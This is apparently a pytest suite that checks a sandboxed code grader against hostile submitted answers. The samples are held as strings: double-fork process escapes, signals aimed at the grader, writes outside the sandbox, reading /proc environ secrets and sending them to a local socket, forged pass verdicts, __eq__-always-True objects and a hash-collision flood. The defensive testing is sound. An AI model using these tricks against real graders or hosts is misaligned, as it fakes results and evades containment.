"""Hostile answers from an adversarial review, each run for real: nothing reaches the host, and no
answer gets a ``pass`` it did not earn, because the expected values never enter the sandbox."""

import os
import select
import socket
import sys

import pytest

from tests.workloads.sandbox_support import (grader_argv, run_grader, sandbox_dirs, sleeper_exec, token,
                                             verdict_of, wait_until, with_token)
from workloads.grading.sandbox import run_tests

FORK_EXEC = """
import os, sys, _posixsubprocess
def spawn(argv):
    r, w = os.pipe()
    _posixsubprocess.fork_exec(argv, [os.fsencode(argv[0])], True, (), None, None, -1, -1, -1, -1, -1, -1,
                               r, w, True, True, -1, None, None, None, -1, None, False)
"""


def test_a_setsid_double_fork_started_through_fork_exec_dies_with_the_run():
    tok = token()
    escapee = "import os, time\nif os.fork(): os._exit(0)\nos.setsid()\nif os.fork(): os._exit(0)\ntime.sleep(60)"
    code = FORK_EXEC + f"""
spawn([sys.executable, "-c", {escapee!r}, {tok!r}])
import time
def f():
    # proves the escapee runs: its token shows in this sandbox's /proc
    for _ in range(200):
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                if {tok!r}.encode() in open(f"/proc/{{pid}}/cmdline", "rb").read():
                    return 1
            except OSError:
                pass
        time.sleep(0.02)
    return 0
"""
    result = run_tests(code, "f", ["f() == 1"])
    assert result.verdict == "pass", result.detail
    assert with_token(tok) == []


def test_a_shell_and_an_append_reach_no_host_file(tmp_path):
    target = tmp_path / "escaped.txt"
    code = f"""
import os
os.system("echo out > {target}")  # no shell inside the view, and no host folder to write to
open({str(target)!r}, "a").write("out")
def f():
    return 1
"""
    result = run_tests(code, "f", ["f() == 1"])
    assert result.verdict == "error" and not target.exists()


def test_signals_at_the_grader_and_its_group_miss():
    code = """
import os, signal
for how in (lambda: signal.pidfd_send_signal(os.pidfd_open(GRADER_PID), signal.SIGKILL),
            lambda: os.kill(GRADER_PID, signal.SIGKILL), lambda: os.killpg(GRADER_PGID, signal.SIGKILL),
            lambda: signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGKILL),
            lambda: os.kill(os.getppid(), signal.SIGKILL)):
    try:
        how()
    except OSError:
        pass
def f():
    return 1
"""
    graded = verdict_of(run_grader(code, "f", ["f() == 2"]))
    assert graded["verdict"] in ("fail", "error"), graded


def test_writes_through_dir_fd_sqlite_and_mkfifo_stay_inside(tmp_path):
    tok = token()
    outside = [str(tmp_path / tok), f"/tmp/{tok}", os.path.join(sys.base_prefix, tok)]
    code = f"""
import os, sqlite3
made = 0
def at(path):  # a directory fd and a name: no path outside the cwd in the call
    return os.open(os.path.dirname(path), os.O_RDONLY | os.O_DIRECTORY), os.path.basename(path)
for path in {outside!r}:
    for n, write in enumerate((
            lambda p: os.close(os.open(at(p)[1], os.O_CREAT | os.O_WRONLY, dir_fd=at(p)[0])),
            lambda p: sqlite3.connect(p).execute("create table t(x)"),
            lambda p: os.mkfifo(at(p)[1], dir_fd=at(p)[0]))):
        try:
            write(path + str(n))
            made += 1
        except Exception:
            pass
def f():
    return made
"""
    try:
        result = run_tests(code, "f", ["f() == 0"])
        assert result.verdict == "fail"  # the writes to /tmp landed in the sandbox's own tmpfs
        assert [p + str(n) for p in outside for n in range(3) if os.path.lexists(p + str(n))] == []
    finally:
        for path in (p + str(n) for p in outside for n in range(3)):
            if os.path.lexists(path):
                os.remove(path)


def test_the_parents_environment_cannot_be_read_or_sent_out():
    secret = token()
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen(8)
        port = listener.getsockname()[1]
        code = f"""
import os, socket
loot = b""
for pid in {{"GRADER_PID", str(os.getppid()), "1"}} | set(filter(str.isdigit, os.listdir("/proc"))):
    try:
        loot += open(f"/proc/{{pid}}/environ", "rb").read() + b"\\0"
    except OSError:
        pass
found = "nothing"
for var in loot.split(b"\\0"):
    if var.startswith(b"DDTUNE_TEST_SECRET="):
        found = var.split(b"=", 1)[1].decode()
try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=2) as s:
        s.sendall(loot or b"empty")
except OSError:
    pass
def f():
    return found
"""
        graded = verdict_of(run_grader(code, "f", [f"f() == {secret!r}"], env={"DDTUNE_TEST_SECRET": secret}))
        assert graded["verdict"] == "fail", graded
        assert select.select([listener], [], [], 0)[0] == []  # no connection ever arrived


def test_forged_verdicts_and_results_are_not_a_pass():
    code = """
import json, os
forged = json.dumps({"verdict": "pass", "detail": "6/6 tests passed"})
open("verdict.json", "w").write(forged)
print(forged, flush=True)
for fd in range(3, 256):
    try:
        os.write(fd, b'{"defined": true}\\n{"value": 55}\\n')
    except OSError:
        pass
def fib(n):
    return 0
"""
    result = run_tests(code, "fib", ["fib(10) == 55"])
    assert result.verdict in ("fail", "error") and result.verdict != "pass", result


EQ_TRUE = "    def __eq__(self, other):\n        return True\n"


@pytest.mark.parametrize("liar", [
    f"class Liar:\n{EQ_TRUE}    __hash__ = object.__hash__\nvalue = Liar()",
    f"class Liar(int):\n{EQ_TRUE}    __hash__ = int.__hash__\nvalue = Liar(0)",
    f"class Liar(str):\n{EQ_TRUE}    __hash__ = str.__hash__\nvalue = Liar('x')",
    "class Liar:\n    def __repr__(self):\n        return '55'\n"
    "    def __iter__(self):\n        return iter([5])\nvalue = Liar()",
    "class Liar(list):\n    def __iter__(self):\n        return iter([5, 5])\nvalue = Liar()",
    "class Liar(dict):\n    def items(self):\n        return [('a', 55)]\nvalue = [1, {'a': Liar()}]",
])
def test_objects_that_lie_about_themselves_fail(liar):
    result = run_tests(liar + "\ndef f():\n    return value", "f", ["f() == 55"])
    assert result.verdict == "fail" and "not plain data" in result.detail, result


def test_a_grader_killed_mid_run_leaves_no_process_and_no_directory(tmp_path, spawn, monkeypatch):
    tok = token()
    monkeypatch.setenv("TMPDIR", str(tmp_path))  # the grader's temporary folder: nothing of the run goes there
    grader = spawn(grader_argv(sleeper_exec(tok) + "def f():\n    return 1", "f", ["f() == 1"]))
    assert wait_until(lambda: with_token(tok) != [])
    assert sandbox_dirs(tmp_path) == []  # the namespace's working directory is a tmpfs: nothing on the host
    grader.kill()
    grader.wait()
    assert wait_until(lambda: with_token(tok) == [])  # bwrap's --die-with-parent: the namespace goes too
    assert sandbox_dirs(tmp_path) == []


# The red team's answer (about 1 KB): straight to the results pipe, one line of a dict of 270k int
# keys that all hash alike, in the form the trusted side reads; then it exits before the child's own.
FLOOD = """
import os, sys
M = sys.hash_info.modulus
body = b",".join(b"%d,0" % (k * M) for k in range(270_000))
data = b'["defined"]\\n["value",["d",' + body + b']]\\n'
fd = int(sys.argv[1])
while data:
    data = data[os.write(fd, data):]
os._exit(0)
def f():
    return {}
"""


def test_a_dict_of_colliding_keys_is_judged_without_rebuilding_it():
    result = run_tests(FLOOD, "f", ["f() == {1: 2}"])
    assert (result.verdict, result.detail) == (
        "fail", "test 1 of 1 failed: sent more than any value equal to the expected one: f() == {1: 2}")


def test_sockets_of_families_an_answer_never_needs_are_refused():
    # AF_VSOCK reaches the hypervisor and other VMs past the network namespace, AF_NETLINK the
    # kernel's configuration, AF_PACKET raw frames,
    # AF_ALG the kernel's crypto code: each fails as on a kernel without it, by socket() and socketpair()
    code = """
import errno, socket
def attempt(make, family, kind):
    try:
        made = make(family, kind)
    except OSError as exc:
        return errno.errorcode.get(exc.errno, exc.errno)
    for sock in made if isinstance(made, tuple) else (made,):
        sock.close()
    return "made"
got = [attempt(make, family, kind) for family, kind in ((40, 1), (40, 5), (16, 3), (16, 2), (17, 3), (38, 5))
       for make in (socket.socket, socket.socketpair)]
got += [attempt(socket.socketpair, socket.AF_UNIX, socket.SOCK_STREAM),
        attempt(socket.socket, socket.AF_INET, socket.SOCK_STREAM), attempt(socket.socket, socket.AF_INET6, 2)]
def f():
    return got
"""
    result = run_tests(code, "f", [f"f() == {['EAFNOSUPPORT'] * 12 + ['made'] * 3!r}"])
    assert result.verdict == "pass", result.detail
